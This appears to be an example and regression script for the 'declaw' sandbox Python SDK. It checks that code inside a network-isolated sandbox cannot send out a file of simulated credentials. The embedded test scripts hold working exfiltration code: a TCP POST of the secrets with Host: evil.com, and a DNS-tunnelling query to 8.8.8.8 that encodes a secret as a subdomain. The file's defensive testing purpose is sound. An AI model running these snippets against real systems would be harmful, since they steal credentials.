#!/usr/bin/env python3
"""The scenario every change must keep working, with the declaw Python SDK: a sandbox without
internet access holds secrets in a file; code inside tries to send them out over TCP and over
DNS (a real UDP query to 8.8.8.8:53, and getaddrinfo) and is blocked; the file is still
readable through the API and inside the sandbox. Prints a [PASS] or [FAIL] line per check and
exits non-zero if any fails. The same walkthrough as examples/network_exfiltration.sh.

Needs a running declawd (DECLAW_SOCKET, else /run/declaw/declaw.sock):
    PYTHONPATH=clients/python python3 examples/network_exfiltration.py

The addresses are public on purpose: the sandbox's network namespace is empty (loopback only),
so no packet can leave it, which is what this shows.
"""
import os
import sys

try:
    from declaw import Sandbox, SandboxException
except ImportError:  # run from a checkout without PYTHONPATH
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients",
                                    "python"))
    from declaw import Sandbox, SandboxException

SECRETS = "API_KEY=sk-secret-12345\nDB_PASSWORD=hunter2\n"

EXFIL_SCRIPT = """\
import socket
data = open("/tmp/secrets.txt").read()
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(("93.184.216.34", 80))  # example.com
    s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n" + data.encode())
    s.close()
    print("EXFILTRATED: the connection succeeded")
except Exception as e:
    print(f"BLOCKED: {type(e).__name__}: {e}")
"""

DNS_EXFIL_SCRIPT = """\
import socket
secret = open("/tmp/secrets.txt").read().split("\\n")[0].split("=")[1]
# A DNS query for <secret>.example.com, sent straight to a public resolver.
query = (b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
         + bytes([len(secret)]) + secret.encode()
         + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01")
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(query, ("8.8.8.8", 53))
    print("EXFILTRATED: the UDP query to 8.8.8.8:53 was sent")
except OSError as e:
    print(f"BLOCKED udp 8.8.8.8:53: {type(e).__name__}: {e}")
try:
    socket.getaddrinfo(secret + ".example.com", 80)
    print("EXFILTRATED: the name was resolved")
except OSError as e:
    print(f"BLOCKED getaddrinfo: {type(e).__name__}: {e}")
"""


class Report:
    def __init__(self):
        self.failures = 0

    @staticmethod
    def banner(title):
        print(f"\n--- {title} ---")

    @staticmethod
    def passed(what):
        print(f"  [PASS] {what}")

    def failed(self, what):
        print(f"  [FAIL] {what}")
        self.failures += 1

    def check(self, ok, what, why=""):
        if ok:
            self.passed(what)
        else:
            self.failed(f"{what}: {why}" if why else what)


def show(output):
    for line in output.strip().splitlines():
        print(f"    {line}")


def write_secrets(sbx, report):
    info = sbx.files.write("/tmp/secrets.txt", SECRETS)
    report.check(info.size == len(SECRETS), "wrote /tmp/secrets.txt with simulated credentials",
                 f"{info.size} bytes written")


def exfiltrate_over_http(sbx, report):
    sbx.files.write("/tmp/exfil_test.py", EXFIL_SCRIPT)
    result = sbx.commands.run("python3 /tmp/exfil_test.py", timeout=15)
    show(result.stdout + result.stderr)
    report.check("BLOCKED" in result.stdout and "EXFILTRATED" not in result.stdout,
                 "HTTP exfiltration was blocked", "the connection was not refused")


def exfiltrate_over_dns(sbx, report):
    sbx.files.write("/tmp/dns_exfil.py", DNS_EXFIL_SCRIPT)
    result = sbx.commands.run("python3 /tmp/dns_exfil.py", timeout=30)
    show(result.stdout + result.stderr)
    blocked = result.stdout.count("BLOCKED")
    report.check(blocked == 2 and "EXFILTRATED" not in result.stdout,
                 "DNS exfiltration was blocked (UDP query and getaddrinfo)",
                 f"{blocked} of 2 attempts blocked")


def read_locally(sbx, report):
    content = sbx.files.read("/tmp/secrets.txt")
    report.check(content == SECRETS, "secrets.txt read back intact through the API",
                 f"got {content!r}")
    inside = sbx.commands.run("cat /tmp/secrets.txt").stdout
    report.check(inside == SECRETS, "secrets.txt readable by code inside the sandbox",
                 f"got {inside!r}")


def main():
    report = Report()
    print("=" * 64)
    print("Network exfiltration prevention: declaw sandbox, Python SDK")
    print("=" * 64)

    report.banner("1. Sandbox creation (allow_internet_access=False)")
    try:
        sbx = Sandbox.create(template="python", timeout=300, allow_internet_access=False,
                             metadata={"demo": "network-exfiltration"})
    except SandboxException as e:
        report.failed(f"could not create a sandbox: {e}")
        return 1
    report.passed(f"sandbox {sbx.sandbox_id} created without internet access")

    steps = [
        ("2. Writing secrets into the sandbox", lambda: write_secrets(sbx, report)),
        ("3. HTTP exfiltration over TCP (to 93.184.216.34:80)",
         lambda: exfiltrate_over_http(sbx, report)),
        ("4. DNS exfiltration (a UDP query to 8.8.8.8:53, and getaddrinfo)",
         lambda: exfiltrate_over_dns(sbx, report)),
        ("5. Local read still works", lambda: read_locally(sbx, report)),
    ]
    try:
        for title, step in steps:
            report.banner(title)
            try:
                step()
            except SandboxException as e:
                report.failed(f"{type(e).__name__}: {e}")
    finally:
        report.banner("6. Cleanup")
        try:
            report.check(sbx.kill(), "sandbox killed")
            report.check(not sbx.is_running(), "sandbox is no longer running")
            live = [i.sandbox_id for i in Sandbox.list()]
            report.check(sbx.sandbox_id not in live, "sandbox no longer listed as running")
        except SandboxException as e:
            report.failed(f"cleanup: {type(e).__name__}: {e}")

    print()
    if report.failures:
        print(f"{report.failures} CHECK(S) FAILED")
        return 1
    print("ALL CHECKS PASSED")
    return 0


if __name__ == "__main__":
    sys.exit(main())
